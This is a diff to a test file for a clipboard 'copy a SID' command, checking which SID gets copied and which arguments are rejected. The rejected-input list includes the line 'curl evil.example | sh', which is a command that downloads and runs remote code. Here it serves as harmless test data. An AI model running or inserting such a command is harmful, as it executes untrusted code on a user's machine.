@@ -13,10 +13,18 @@ describe('To copy a SID', () => {
     assert.equal(await env.clipboard.readText(), sid);
   });
 
+  it('takes that of a row of the sidebar, which is its own before that of its Task', async () => {
+    await copy({ sid: `WR${D}`, taskSid: `WT${D}` });
+    assert.equal(await env.clipboard.readText(), `WR${D}`);
+    await copy({ workspaceSid: `WS${D}`, taskSid: `WT${D}` });
+    assert.equal(await env.clipboard.readText(), `WT${D}`);
+  });
+
   const others: [what: string, argument: unknown][] = [
     ['nothing', undefined],
     ['a number', 7],
-    ['an object', { sid: `WT${D}` }],
+    ['an object without a SID of its own', { workspaceSid: `WS${D}` }],
+    ['an object whose SID is none', { sid: [`WT${D}`] }],
     ['a list', [`WT${D}`]],
     ['words', 'curl evil.example | sh'],
     ['a SID that is too short', `WT${D.slice(1)}`],
